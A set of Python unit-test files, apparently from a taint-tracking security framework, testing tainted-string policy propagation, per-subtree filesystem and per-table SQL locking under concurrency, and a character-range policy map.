        assert result.policies_at(len(result) - 1) == PolicySet.empty()

    def test_format_positional_and_auto(self):
        assert TaintedStr("{} {}").format("a", tainted("b")) == "a b"
        assert TaintedStr("{0}-{1}").format(tainted("x"), "y") == "x-y"

    def test_format_with_spec(self):
        result = TaintedStr("{value:>6}").format(value=tainted("ab"))
        assert result == "    ab"
        assert result.policies() == PolicySet.of(U)

    def test_format_conversion(self):
        assert TaintedStr("{x!r}").format(x="a") == "'a'"

    def test_format_map(self):
        assert TaintedStr("{k}").format_map({"k": tainted("v")}) == "v"

    def test_percent_string(self):
        result = TaintedStr("user=%s id=%d") % (tainted("bob"), 7)
        assert result == "user=bob id=7"
        assert result.policies_at(5) == PolicySet.of(U)
        assert result.policies_at(0) == PolicySet.empty()

    def test_percent_mapping(self):
        result = TaintedStr("%(name)s!") % {"name": tainted("eve")}
        assert result == "eve!"
        assert result.policies_at(0) == PolicySet.of(U)

    def test_percent_literal_percent(self):
        assert TaintedStr("100%% sure") % () == "100% sure"

    def test_template_policies_cover_literals(self):
        template = taint_str("Hello {x}", S)
        result = template.format(x="world")
        assert result.policies_at(0) == PolicySet.of(S)


class TestConversionsAndPolicies:
    def test_encode_decode_roundtrip(self):
        value = TaintedStr("pw: ") + tainted("sécret")
        encoded = value.encode("utf-8")
        assert bytes(encoded) == str(value).encode("utf-8")
        decoded = encoded.decode("utf-8")
        assert decoded == str(value)
        assert decoded.policies_at(4) == PolicySet.of(U)
        assert decoded.policies_at(0) == PolicySet.empty()

    def test_with_policy_range(self):
        value = TaintedStr("abcdef").with_policy(U, 2, 4)
        assert value.policies_at(2) == PolicySet.of(U)
        assert value.policies_at(4) == PolicySet.empty()

    def test_without_policy(self):
        value = tainted("x").with_policy(S)
        assert value.without_policy(U).policies() == PolicySet.of(S)

    def test_without_policy_type(self):
        value = tainted("x").with_policy(S)
        assert value.without_policy_type(
            SQLSanitized).policies() == PolicySet.of(U)

    def test_policies_at(self):
        value = TaintedStr("ab") + tainted("c")
        assert value.policies_at(2) == PolicySet.of(U)

    def test_pickle_drops_policies(self):
        import pickle
        value = tainted("secret")
        restored = pickle.loads(pickle.dumps(value))
        assert restored == "secret"
        assert type(restored) is str

    def test_repr_matches_str_repr(self):
        assert repr(tainted("a'b")) == repr("a'b")

    def test_fstring_loses_policies_documented(self):
        # Known limitation: f-strings drop the policy map (interpreter-level
        # joining); the interpolate() helper is the tracked alternative.
        result = f"{tainted('x')}"
        assert type(result) is str
