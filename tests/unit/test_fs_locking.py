"""Per-subtree filesystem locking: lock identity, ordering, reentrancy, the
independence of operations under disjoint directories, and the race scenarios
the coarse global lock used to paper over."""

import threading
import time

import pytest

from repro.core.exceptions import AccessDenied, FileSystemError
from repro.fs.filesystem import FileSystem
from repro.fs.resinfs import ResinFS
from repro.policies.acl import ACL
from repro.security.assertions import WriteAccessFilter


class TestLockRegistry:
    def test_one_lock_per_subtree(self):
        fs = FileSystem()
        assert fs.subtree_lock("/a") is fs.subtree_lock("/a")
        assert fs.subtree_lock("/a") is not fs.subtree_lock("/b")

    def test_lock_identity_survives_unlink_and_recreate(self):
        fs = FileSystem()
        fs.mkdir("/a")
        lock = fs.subtree_lock("/a")
        fs.unlink("/a")
        fs.mkdir("/a")
        assert fs.subtree_lock("/a") is lock

    def test_subtree_of(self):
        assert FileSystem.subtree_of("/a/b/f.txt") == "/a/b"
        assert FileSystem.subtree_of("/f.txt") == "/"
        assert FileSystem.subtree_of("/") == "/"
        assert FileSystem.subtree_of("/a//b/../c") == "/a"

    def test_locked_is_reentrant(self):
        fs = FileSystem()
        fs.mkdir("/a")
        with fs.locked("/a"):
            with fs.locked("/a"):
                fs.write_raw("/a/f", b"x")
            assert fs.read_raw("/a/f") == b"x"

    def test_locked_handles_duplicate_and_unknown_names(self):
        fs = FileSystem()
        # Locking is by *path*: directories need not exist yet (mkdir takes
        # the lock of the parent it is about to populate).
        with fs.locked("/x", "/x", "/y"):
            pass
        assert not fs.exists("/x")

    def test_mkdir_subtrees_covers_missing_ancestors(self):
        fs = FileSystem()
        fs.mkdir("/a")
        assert fs.mkdir_subtrees("/a/b/c/d", parents=True) == ("/a", "/a/b", "/a/b/c")
        assert fs.mkdir_subtrees("/a/b", parents=False) == ("/a",)

    def test_plan_locked_replans_until_the_lock_set_is_stable(self):
        """The racy plan→acquire window: if the probed tree changed so the
        plan no longer matches, plan_locked releases and re-plans instead of
        running the body under the wrong (or ordering-violating) lock set."""
        fs = FileSystem()
        plans = [("/stale",), ("/fresh",), ("/fresh",), ("/fresh",)]
        observed = []

        def plan():
            result = plans.pop(0) if plans else ("/fresh",)
            observed.append(result)
            return result

        with fs.plan_locked(plan):
            pass
        # First round planned /stale but validated /fresh (mismatch -> loop);
        # the second round planned and validated /fresh and ran the body.
        assert observed == [("/stale",), ("/fresh",), ("/fresh",), ("/fresh",)]


class TestLockOrdering:
    def test_overlapping_lock_sets_do_not_deadlock(self):
        """Two threads acquiring overlapping subtree sets in *opposite*
        textual order: locked() sorts by path, so they cannot deadlock."""
        fs = FileSystem()
        rounds = 50
        errors = []

        def worker(paths):
            try:
                for _ in range(rounds):
                    with fs.locked(*paths):
                        time.sleep(0.0002)
            except Exception as exc:  # pragma: no cover - only on failure
                errors.append(exc)

        threads = [threading.Thread(target=worker, args=(("/a", "/b"),)),
                   threading.Thread(target=worker, args=(("/b", "/a"),)),
                   threading.Thread(target=worker, args=(("/b", "/c", "/a"),))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=20)
        assert not errors
        assert not any(thread.is_alive() for thread in threads)

    def test_out_of_order_nested_acquisition_fails_fast(self):
        """Acquiring a subtree that sorts *before* the held set would break
        the global ordering (and could deadlock against a sorted-order
        acquirer), so it raises immediately instead of blocking."""
        fs = ResinFS()
        fs.mkdir("/accounts")
        fs.mkdir("/audit")
        fs.write_text("/audit/log", "entry")
        with fs.transaction("/audit/log"):
            with pytest.raises(FileSystemError, match="lock ordering violation"):
                fs.write_text("/accounts/balance", "10")
        # Order respected (or subtrees re-acquired): fine.
        with fs.transaction("/accounts/balance", "/audit/log"):
            fs.write_text("/accounts/balance", "10")
            fs.write_text("/audit/log", "entry 2", append=True)
        with fs.transaction("/accounts/balance"):
            fs.write_text("/audit/log", "sorts after: safe", append=True)
        # The failed acquisition released everything it took.
        with fs.transaction("/accounts/balance", "/audit/log"):
            pass

    def test_ancestors_sort_before_descendants(self):
        """Path order is compatible with tree order: holding a directory and
        then locking one of its subdirectories is always in-order."""
        fs = ResinFS()
        fs.mkdir("/a/b", parents=True)
        with fs.transaction("/a/f"):            # holds /a
            fs.write_text("/a/b/inner", "x")    # takes /a/b: fine
            fs.write_text("/a/f", "y")          # re-acquires /a: fine

    def test_dentry_lock_never_blocks_disjoint_subtrees(self):
        """The dentry lock is innermost and brief: holding one directory's
        subtree lock never blocks namespace mutations under a *different*
        directory."""
        fs = FileSystem()
        fs.mkdir("/held")
        fs.mkdir("/other")
        done = threading.Event()

        def mutate():
            fs.write_raw("/other/f", b"x")
            fs.mkdir("/other/sub")
            fs.unlink("/other/f")
            done.set()

        with fs.locked("/held"):
            thread = threading.Thread(target=mutate)
            thread.start()
            assert done.wait(5), "disjoint mutation blocked by a held lock"
            thread.join()

    def test_transaction_locks_directory_itself_for_dir_arguments(self):
        """Passing an existing directory to fs.transaction locks *that*
        directory's subtree (its entries), matching what write_bytes on a
        child path acquires."""
        fs = ResinFS()
        fs.mkdir("/data")
        entered = threading.Event()
        release = threading.Event()
        blocked_until_release = []

        def writer():
            assert entered.wait(5)
            fs.write_text("/data/f", "x")
            blocked_until_release.append(release.is_set())

        thread = threading.Thread(target=writer)
        thread.start()
        with fs.transaction("/data"):
            entered.set()
            time.sleep(0.05)
            release.set()
        thread.join(timeout=5)
        assert blocked_until_release == [True]


class TestDisjointSubtreeConcurrency:
    def test_writers_under_disjoint_subtrees_overlap(self):
        """One request holds directory A's lock mid-transaction; a write
        under directory B completes meanwhile (the old single ResinFS lock
        serialized this)."""
        fs = ResinFS()
        fs.mkdir("/a")
        fs.mkdir("/b")
        a_entered = threading.Event()
        release_a = threading.Event()
        b_finished = threading.Event()

        def writer_a():
            with fs.transaction("/a/f"):
                a_entered.set()
                release_a.wait(5)
                fs.write_text("/a/f", "one")

        def writer_b():
            assert a_entered.wait(5)
            fs.write_text("/b/f", "two")
            b_finished.set()

        threads = [threading.Thread(target=writer_a),
                   threading.Thread(target=writer_b)]
        for thread in threads:
            thread.start()
        # B's write lands while A still holds its own subtree's lock.
        assert b_finished.wait(5), "disjoint-subtree write blocked"
        release_a.set()
        for thread in threads:
            thread.join(timeout=5)
        assert str(fs.read_text("/a/f")) == "one"
        assert str(fs.read_text("/b/f")) == "two"

    def test_same_subtree_writers_serialize(self):
        """Sanity check of the other direction: a second writer under the
        *same* directory waits until the transaction releases the lock."""
        fs = ResinFS()
        fs.mkdir("/d")
        entered = threading.Event()
        release = threading.Event()
        order = []

        def holder():
            with fs.transaction("/d/f"):
                entered.set()
                release.wait(5)
                order.append("holder")
                fs.write_text("/d/f", "first")

        def contender():
            assert entered.wait(5)
            fs.write_text("/d/g", "second")
            order.append("contender")

        threads = [threading.Thread(target=holder),
                   threading.Thread(target=contender)]
        for thread in threads:
            thread.start()
        time.sleep(0.05)               # give the contender a chance to run
        assert order == []             # ... it must still be waiting
        release.set()
        for thread in threads:
            thread.join(timeout=5)
        assert order == ["holder", "contender"]

    def test_transaction_keeps_read_modify_write_atomic(self):
        """N concurrent increments through fs.transaction lose no update."""
        fs = ResinFS()
        fs.mkdir("/counters")
        fs.write_text("/counters/n", "0")

        def bump():
            for _ in range(10):
                with fs.transaction("/counters/n"):
                    value = int(str(fs.read_text("/counters/n")))
                    fs.write_text("/counters/n", str(value + 1))

        threads = [threading.Thread(target=bump) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=20)
        assert str(fs.read_text("/counters/n")) == "40"


class TestRaceScenarios:
    def test_rename_waits_for_write_in_source_subtree(self):
        """rename(src, dst) takes both subtree locks: it cannot interleave
        with an in-flight write transaction in the source directory."""
        fs = ResinFS()
        fs.mkdir("/src")
        fs.mkdir("/dst")
        fs.write_text("/src/f", "original")
        entered = threading.Event()
        release = threading.Event()
        order = []

        def writer():
            with fs.transaction("/src/f"):
                entered.set()
                release.wait(5)
                fs.write_text("/src/f", "updated")
                order.append("write")

        def renamer():
            assert entered.wait(5)
            fs.rename("/src/f", "/dst/f")
            order.append("rename")

        threads = [threading.Thread(target=writer),
                   threading.Thread(target=renamer)]
        for thread in threads:
            thread.start()
        time.sleep(0.05)
        assert order == []             # the rename must still be waiting
        release.set()
        for thread in threads:
            thread.join(timeout=5)
        assert order == ["write", "rename"]
        assert not fs.exists("/src/f")
        assert str(fs.read_text("/dst/f")) == "updated"

    def test_concurrent_mkdir_parents_races(self):
        """N threads materializing the same deep directory (and sibling
        directories) concurrently: no error, one consistent tree."""
        fs = ResinFS()
        errors = []
        barrier = threading.Barrier(8)

        def build(index):
            try:
                barrier.wait(timeout=5)
                fs.mkdir("/deep/shared/common", parents=True)
                fs.mkdir(f"/deep/shared/common/worker-{index}", parents=True)
            except Exception as exc:  # pragma: no cover - only on failure
                errors.append(exc)

        threads = [threading.Thread(target=build, args=(i,)) for i in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=10)
        assert not errors
        assert fs.isdir("/deep/shared/common")
        assert len(fs.listdir("/deep/shared/common")) == 8

    def test_persistent_filter_install_waits_for_concurrent_read(self):
        """Installing a persistent filter serializes against an in-flight
        read transaction on the same subtree — a reader never sees a
        half-installed guard."""
        fs = ResinFS()
        fs.mkdir("/pages")
        fs.write_text("/pages/home", "content")
        entered = threading.Event()
        release = threading.Event()
        order = []

        def reader():
            with fs.transaction("/pages/home"):
                entered.set()
                release.wait(5)
                order.append(("read", str(fs.read_text("/pages/home"))))

        def installer():
            assert entered.wait(5)
            fs.set_persistent_filter(
                "/pages/home", WriteAccessFilter(acl=ACL.parse("alice:write")))
            order.append(("installed", None))

        threads = [threading.Thread(target=reader),
                   threading.Thread(target=installer)]
        for thread in threads:
            thread.start()
        time.sleep(0.05)
        assert order == []             # install must still be waiting
        release.set()
        for thread in threads:
            thread.join(timeout=5)
        assert [name for name, _ in order] == ["read", "installed"]
        # The installed filter is live afterwards.
        fs.set_request_context(user="mallory")
        with pytest.raises(AccessDenied):
            fs.write_text("/pages/home", "defaced")

    def test_handles_in_disjoint_directories_do_not_serialize(self):
        """ResinFile handle ops take the owning subtree lock per call: a
        handle under /b keeps working while another thread holds /a."""
        fs = ResinFS()
        fs.mkdir("/a")
        fs.mkdir("/b")
        fs.write_text("/a/f", "aaa")
        a_entered = threading.Event()
        release_a = threading.Event()
        b_finished = threading.Event()
        results = {}

        def holder():
            with fs.transaction("/a/f"):
                a_entered.set()
                release_a.wait(5)

        def b_worker():
            assert a_entered.wait(5)
            with fs.open("/b/f", "w") as handle:
                handle.write("bbb")
                handle.write("ccc")
            with fs.open("/b/f", "r") as handle:
                results["b"] = str(handle.read().decode())
            b_finished.set()

        threads = [threading.Thread(target=holder),
                   threading.Thread(target=b_worker)]
        for thread in threads:
            thread.start()
        # The /b handle completes its whole lifecycle while /a is held.
        assert b_finished.wait(5), "disjoint-directory handle ops blocked"
        release_a.set()
        for thread in threads:
            thread.join(timeout=5)
        assert results["b"] == "bbbccc"

    def test_walk_listdir_and_rename_plan_safe_under_namespace_churn(self):
        """walk/listdir snapshot entry dicts under the dentry lock, so
        lock-free scans (including rename's subtree planner) never crash
        while other threads churn the namespace under their own locks."""
        fs = FileSystem()
        fs.mkdir("/a/d0", parents=True)
        fs.mkdir("/a/d1")
        stop = threading.Event()
        errors = []

        def churn(index):
            counter = 0
            while not stop.is_set():
                name = f"/a/d{index}/t{counter % 8}"
                try:
                    fs.write_raw(name, b"x")
                    fs.unlink(name)
                except FileSystemError:  # pragma: no cover - benign race
                    pass
                counter += 1

        def scan():
            try:
                for _ in range(300):
                    list(fs.walk("/"))
                    fs.listdir("/a")
                    fs.rename_subtrees("/a", "/z")
            except Exception as exc:  # pragma: no cover - only on failure
                errors.append(exc)

        churners = [threading.Thread(target=churn, args=(i,)) for i in (0, 1)]
        scanners = [threading.Thread(target=scan) for _ in range(2)]
        for thread in churners + scanners:
            thread.start()
        for thread in scanners:
            thread.join(timeout=30)
        stop.set()
        for thread in churners:
            thread.join(timeout=10)
        assert not errors

    def test_unlink_and_rename_lock_plans_include_directory_victims(self):
        """Removing or moving a *directory* locks the directory itself in
        addition to its parent, so it mutually excludes the operations
        working under it (a detached-inode insert can never succeed
        silently)."""
        fs = FileSystem()
        fs.mkdir("/a")
        fs.write_raw("/f", b"x")
        assert fs.unlink_subtrees("/a") == ("/", "/a")
        assert fs.unlink_subtrees("/f") == ("/",)
        fs.mkdir("/dst")
        assert fs.rename_subtrees("/a", "/b") == ("/", "/a")
        assert fs.rename_subtrees("/f", "/dst/f") == ("/", "/dst")
        # Moving a directory locks its whole directory subtree, so nothing
        # anywhere under the old name can interleave with the move.
        fs.mkdir("/a/deep/er", parents=True)
        fs.write_raw("/a/deep/er/f", b"x")
        assert fs.rename_subtrees("/a", "/b") == \
            ("/", "/a", "/a/deep", "/a/deep/er")

    def test_rename_of_directory_waits_for_write_deep_in_its_subtree(self):
        """Moving a directory excludes writes at *any* depth under it — a
        write transaction two levels down blocks the rename, so data and
        policy xattrs always land under one consistent name."""
        fs = ResinFS()
        fs.mkdir("/src/sub", parents=True)
        fs.mkdir("/dst")
        entered = threading.Event()
        release = threading.Event()
        order = []

        def writer():
            with fs.transaction("/src/sub/f"):
                entered.set()
                release.wait(5)
                fs.write_text("/src/sub/f", "deep")
                order.append("write")

        def renamer():
            assert entered.wait(5)
            fs.rename("/src", "/moved")
            order.append("rename")

        threads = [threading.Thread(target=writer),
                   threading.Thread(target=renamer)]
        for thread in threads:
            thread.start()
        time.sleep(0.05)
        assert order == []             # the rename must still be waiting
        release.set()
        for thread in threads:
            thread.join(timeout=5)
        assert order == ["write", "rename"]
        assert str(fs.read_text("/moved/sub/f")) == "deep"

    def test_transaction_revalidates_its_dir_or_file_probe(self):
        """fs.transaction re-plans after acquiring: the lock it ends up
        holding always matches whether the path is a directory or a file at
        acquisition time (stable here, but exercised through plan_locked)."""
        fs = ResinFS()
        fs.mkdir("/d")
        with fs.transaction("/d"):          # existing dir: locks /d itself
            assert fs.raw._locking.held() == {"/d"}
        with fs.transaction("/d/f"):        # file path: locks the parent
            assert fs.raw._locking.held() == {"/d"}

    def test_unlink_of_directory_waits_for_operations_inside_it(self):
        """unlink('/a') needs /a's own subtree lock: it cannot interleave
        with a mkdir/write holding that lock, so the insert lands in the
        live tree and the unlink then (correctly) refuses."""
        fs = FileSystem()
        fs.mkdir("/a")
        entered = threading.Event()
        release = threading.Event()
        outcome = {}

        def builder():
            with fs.locked("/a"):
                entered.set()
                release.wait(5)
                fs.mkdir("/a/b")

        def remover():
            assert entered.wait(5)
            try:
                fs.unlink("/a")
                outcome["unlink"] = "removed"
            except FileSystemError:
                outcome["unlink"] = "not-empty"

        threads = [threading.Thread(target=builder),
                   threading.Thread(target=remover)]
        for thread in threads:
            thread.start()
        time.sleep(0.05)
        assert not outcome               # the unlink must still be waiting
        release.set()
        for thread in threads:
            thread.join(timeout=5)
        # The mkdir landed in the live tree; the unlink saw it and refused.
        assert outcome["unlink"] == "not-empty"
        assert fs.isdir("/a/b")

    def test_concurrent_wiki_edits_get_distinct_revisions(self):
        """Cross-layer check: MoinMoin allocates revision numbers inside
        fs.transaction(page_dir), so concurrent editors never claim the same
        revision."""
        from repro.apps.moinmoin import MoinMoin
        from repro.environment import Environment

        wiki = MoinMoin(Environment(), use_resin=False,
                        use_write_assertion=False)
        wiki.update_body("Page", "seed", "alice")
        barrier = threading.Barrier(4)
        revisions = []

        def edit(user):
            barrier.wait(timeout=5)
            for index in range(5):
                revisions.append(
                    wiki.update_body("Page", f"rev by {user} #{index}", user))

        threads = [threading.Thread(target=edit, args=(f"user-{i}",))
                   for i in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=20)
        assert sorted(revisions) == list(range(2, 22))   # all distinct
        assert wiki._latest_revision("Page") == 21

    def test_shared_handle_appends_from_two_threads_lose_no_data(self):
        """Two threads appending through one handle: per-call subtree
        locking keeps the buffer consistent."""
        fs = ResinFS()
        fs.mkdir("/log")
        handle = fs.open("/log/events", "w")

        def append(marker):
            for _ in range(50):
                handle.write(marker)

        threads = [threading.Thread(target=append, args=("a",)),
                   threading.Thread(target=append, args=("b",))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=10)
        handle.close()
        text = str(fs.read_text("/log/events"))
        assert len(text) == 100
        assert text.count("a") == 50 and text.count("b") == 50
