"""Per-table engine locking: lock identity, ordering, reentrancy, and the
independence of statements on disjoint tables."""

import threading
import time

import pytest

from repro.core.exceptions import SQLError
from repro.environment import Environment
from repro.sql.engine import Engine
from repro.sql.parser import parse


class TestLockRegistry:
    def test_one_lock_per_table_name(self):
        engine = Engine()
        assert engine.table_lock("a") is engine.table_lock("a")
        assert engine.table_lock("a") is not engine.table_lock("b")

    def test_lock_identity_survives_drop_and_recreate(self):
        engine = Engine()
        engine.run("CREATE TABLE t (id INTEGER)")
        lock = engine.table_lock("t")
        engine.run("DROP TABLE t")
        engine.run("CREATE TABLE t (id INTEGER)")
        assert engine.table_lock("t") is lock

    def test_statement_tables(self):
        assert Engine.statement_tables(parse("SELECT 1")) == ()
        assert Engine.statement_tables(
            parse("SELECT * FROM users")) == ("users",)
        assert Engine.statement_tables(
            parse("INSERT INTO log (id) VALUES (1)")) == ("log",)
        assert Engine.statement_tables(
            parse("CREATE TABLE t (id INTEGER)")) == ("t",)

    def test_locked_is_reentrant(self):
        engine = Engine()
        engine.run("CREATE TABLE t (id INTEGER)")
        with engine.locked("t"):
            with engine.locked("t"):
                engine.run("INSERT INTO t (id) VALUES (1)")
            assert engine.run("SELECT id FROM t").scalar() == 1

    def test_locked_handles_duplicate_and_unknown_names(self):
        engine = Engine()
        # Locking is by *name*: tables need not exist yet (CREATE takes the
        # lock of the name it is about to create).
        with engine.locked("x", "x", "y"):
            pass
        with pytest.raises(SQLError):
            engine.run("SELECT * FROM x")


class TestLockOrdering:
    def test_overlapping_lock_sets_do_not_deadlock(self):
        """Two threads acquiring overlapping table sets in *opposite*
        textual order: locked() sorts by name, so they cannot deadlock."""
        engine = Engine()
        rounds = 50
        errors = []

        def worker(names):
            try:
                for _ in range(rounds):
                    with engine.locked(*names):
                        time.sleep(0.0002)
            except Exception as exc:  # pragma: no cover - only on failure
                errors.append(exc)

        threads = [threading.Thread(target=worker, args=(("a", "b"),)),
                   threading.Thread(target=worker, args=(("b", "a"),)),
                   threading.Thread(target=worker, args=(("b", "c", "a"),))]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=20)
        assert not errors
        assert not any(thread.is_alive() for thread in threads)

    def test_out_of_order_nested_acquisition_fails_fast(self):
        """Acquiring a table that sorts *before* the held set would break
        the global ordering (and could deadlock against a sorted-order
        acquirer), so it raises immediately instead of blocking."""
        env = Environment()
        env.db.execute_unchecked("CREATE TABLE accounts (id INTEGER)")
        env.db.execute_unchecked("CREATE TABLE audit_log (id INTEGER)")
        with env.db.transaction("audit_log"):
            with pytest.raises(SQLError, match="lock ordering violation"):
                env.db.query("SELECT * FROM accounts")
        # Order respected (or tables re-acquired): fine.
        with env.db.transaction("accounts", "audit_log"):
            env.db.query("SELECT * FROM accounts")
            env.db.query("SELECT * FROM audit_log")
        with env.db.transaction("accounts"):
            env.db.query("SELECT * FROM audit_log")   # sorts after: safe
        # The failed acquisition released everything it took.
        with env.db.transaction("accounts", "audit_log"):
            pass

    def test_create_drop_while_other_table_is_held(self):
        """The catalog lock is innermost and brief: holding one table's lock
        never blocks CREATE/DROP of a *different* table."""
        engine = Engine()
        engine.run("CREATE TABLE held (id INTEGER)")
        done = threading.Event()

        def ddl():
            engine.run("CREATE TABLE other (id INTEGER)")
            engine.run("DROP TABLE other")
            done.set()

        with engine.locked("held"):
            thread = threading.Thread(target=ddl)
            thread.start()
            assert done.wait(5), "DDL on another table blocked by a held lock"
            thread.join()


class TestDisjointTableConcurrency:
    def test_writers_on_disjoint_tables_overlap(self):
        """One request holds table A's lock mid-transaction; a write to
        table B completes meanwhile (the old single engine lock serialized
        this)."""
        env = Environment()
        env.db.execute_unchecked("CREATE TABLE ta (id INTEGER)")
        env.db.execute_unchecked("CREATE TABLE tb (id INTEGER)")
        a_entered = threading.Event()
        release_a = threading.Event()
        b_finished = threading.Event()

        def writer_a():
            with env.db.transaction("ta"):
                a_entered.set()
                release_a.wait(5)
                env.db.query("INSERT INTO ta (id) VALUES (1)")

        def writer_b():
            assert a_entered.wait(5)
            env.db.query("INSERT INTO tb (id) VALUES (2)")
            b_finished.set()

        threads = [threading.Thread(target=writer_a),
                   threading.Thread(target=writer_b)]
        for thread in threads:
            thread.start()
        # B's write lands while A still holds its own table's lock.
        assert b_finished.wait(5), "disjoint-table write blocked"
        release_a.set()
        for thread in threads:
            thread.join(timeout=5)
        assert env.db.query("SELECT count(*) FROM ta").scalar() == 1
        assert env.db.query("SELECT count(*) FROM tb").scalar() == 1

    def test_same_table_writers_serialize(self):
        """Sanity check of the other direction: a second writer to the *same*
        table waits until the transaction releases the lock."""
        env = Environment()
        env.db.execute_unchecked("CREATE TABLE t (id INTEGER)")
        entered = threading.Event()
        release = threading.Event()
        order = []

        def holder():
            with env.db.transaction("t"):
                entered.set()
                release.wait(5)
                order.append("holder")
                env.db.query("INSERT INTO t (id) VALUES (1)")

        def contender():
            assert entered.wait(5)
            env.db.query("INSERT INTO t (id) VALUES (2)")
            order.append("contender")

        threads = [threading.Thread(target=holder),
                   threading.Thread(target=contender)]
        for thread in threads:
            thread.start()
        time.sleep(0.05)               # give the contender a chance to run
        assert order == []             # ... it must still be waiting
        release.set()
        for thread in threads:
            thread.join(timeout=5)
        assert order == ["holder", "contender"]

    def test_transaction_keeps_read_modify_write_atomic(self):
        """N concurrent increments through db.transaction lose no update."""
        env = Environment()
        env.db.execute_unchecked("CREATE TABLE c (id INTEGER, n INTEGER)")
        env.db.query("INSERT INTO c (id, n) VALUES (0, 0)")

        def bump():
            for _ in range(10):
                with env.db.transaction("c"):
                    n = env.db.query("SELECT n FROM c WHERE id = 0").scalar()
                    env.db.query(f"UPDATE c SET n = {int(n) + 1} WHERE id = 0")

        threads = [threading.Thread(target=bump) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=20)
        assert env.db.query("SELECT n FROM c WHERE id = 0").scalar() == 40
