"""Unit tests for the character-range policy map."""

import pytest

from repro.core.policyset import PolicySet
from repro.policies import HTMLSanitized, SQLSanitized, UntrustedData
from repro.tracking.ranges import PolicyRange, RangeMap

U = UntrustedData()
S = SQLSanitized()
H = HTMLSanitized()


class TestPolicyRange:
    def test_length(self):
        assert len(PolicyRange(2, 7, PolicySet.of(U))) == 5

    def test_invalid_range_rejected(self):
        with pytest.raises(ValueError):
            PolicyRange(5, 2, PolicySet.of(U))
        with pytest.raises(ValueError):
            PolicyRange(-1, 2, PolicySet.of(U))

    def test_shifted(self):
        rng = PolicyRange(2, 4, PolicySet.of(U)).shifted(3)
        assert (rng.start, rng.stop) == (5, 7)

    def test_equality(self):
        assert PolicyRange(0, 3, PolicySet.of(U)) == PolicyRange(
            0, 3, PolicySet.of(U))


class TestNormalization:
    def test_empty_policy_ranges_dropped(self):
        rmap = RangeMap(10, [PolicyRange(0, 5, PolicySet.empty())])
        assert rmap.is_empty()

    def test_out_of_bounds_clamped(self):
        rmap = RangeMap(4, [PolicyRange(2, 100, PolicySet.of(U))])
        assert rmap.ranges[0].stop == 4

    def test_adjacent_equal_ranges_coalesce(self):
        rmap = RangeMap(10, [PolicyRange(0, 5, PolicySet.of(U)),
                             PolicyRange(5, 10, PolicySet.of(U))])
        assert len(rmap.ranges) == 1

    def test_overlapping_ranges_union_policies(self):
        rmap = RangeMap(10, [PolicyRange(0, 6, PolicySet.of(U)),
                             PolicyRange(4, 10, PolicySet.of(S))])
        assert rmap.policies_at(5) == PolicySet.of(U, S)
        assert rmap.policies_at(2) == PolicySet.of(U)
        assert rmap.policies_at(8) == PolicySet.of(S)

    def test_negative_length_rejected(self):
        with pytest.raises(ValueError):
            RangeMap(-1)


class TestQueries:
    def test_uniform(self):
        rmap = RangeMap.uniform(5, U)
        assert rmap.every_position_has(UntrustedData)

    def test_uniform_empty_policies(self):
        assert RangeMap.uniform(5, None).is_empty()

    def test_policies_at_negative_index(self):
        rmap = RangeMap(5, [PolicyRange(4, 5, PolicySet.of(U))])
        assert rmap.policies_at(-1) == PolicySet.of(U)

    def test_policies_at_out_of_range(self):
        with pytest.raises(IndexError):
            RangeMap(3).policies_at(3)

    def test_all_policies(self):
        rmap = RangeMap(10, [PolicyRange(0, 2, PolicySet.of(U)),
                             PolicyRange(8, 10, PolicySet.of(S))])
        assert rmap.all_policies() == PolicySet.of(U, S)

    def test_covered(self):
        rmap = RangeMap(10, [PolicyRange(0, 2, PolicySet.of(U)),
                             PolicyRange(8, 10, PolicySet.of(S))])
        assert rmap.covered() == 4

    def test_positions_with(self):
        rmap = RangeMap(6, [PolicyRange(1, 3, PolicySet.of(U))])
        assert list(rmap.positions_with(UntrustedData)) == [1, 2]

    def test_every_position_has_partial(self):
        rmap = RangeMap(6, [PolicyRange(1, 3, PolicySet.of(U))])
        assert not rmap.every_position_has(UntrustedData)

    def test_every_position_has_empty_string(self):
        assert RangeMap(0).every_position_has(UntrustedData)


class TestTransformations:
    def test_slice_simple(self):
        rmap = RangeMap(10, [PolicyRange(3, 7, PolicySet.of(U))])
        sliced = rmap.slice(5, 10)
        assert sliced.length == 5
        assert sliced.policies_at(0) == PolicySet.of(U)
        assert sliced.policies_at(2) == PolicySet.empty()

    def test_slice_with_step(self):
        rmap = RangeMap(10, [PolicyRange(0, 1, PolicySet.of(U)),
                             PolicyRange(2, 3, PolicySet.of(S))])
        sliced = rmap.slice(0, 10, 2)
        assert sliced.policies_at(0) == PolicySet.of(U)
        assert sliced.policies_at(1) == PolicySet.of(S)

    def test_concat(self):
        left = RangeMap.uniform(3, U)
        right = RangeMap.uniform(2, S)
        combined = left.concat(right)
        assert combined.length == 5
        assert combined.policies_at(0) == PolicySet.of(U)
        assert combined.policies_at(4) == PolicySet.of(S)

    def test_repeat(self):
        rmap = RangeMap(2, [PolicyRange(0, 1, PolicySet.of(U))])
        repeated = rmap.repeat(3)
        assert repeated.length == 6
        assert [bool(repeated.policies_at(i)) for i in range(6)] == \
            [True, False, True, False, True, False]

    def test_repeat_zero(self):
        assert RangeMap.uniform(3, U).repeat(0).length == 0

    def test_add_policy_range(self):
        rmap = RangeMap(10).add_policy(U, 2, 5)
        assert rmap.policies_at(2) == PolicySet.of(U)
        assert rmap.policies_at(5) == PolicySet.empty()

    def test_add_policy_whole(self):
        assert RangeMap(4).add_policy(U).every_position_has(UntrustedData)

    def test_remove_policy(self):
        rmap = RangeMap.uniform(4, U).add_policy(S).remove_policy(U)
        assert not rmap.all_policies().has_type(UntrustedData)
        assert rmap.all_policies().has_type(SQLSanitized)

    def test_remove_policy_type(self):
        rmap = RangeMap.uniform(4, U).add_policy(S)
        assert not rmap.remove_policy_type(
            SQLSanitized).all_policies().has_type(SQLSanitized)

    def test_spread(self):
        rmap = RangeMap(10, [PolicyRange(0, 1, PolicySet.of(U))]).spread(10)
        assert rmap.every_position_has(UntrustedData)

    def test_with_length_truncates(self):
        rmap = RangeMap.uniform(10, U).with_length(3)
        assert rmap.length == 3
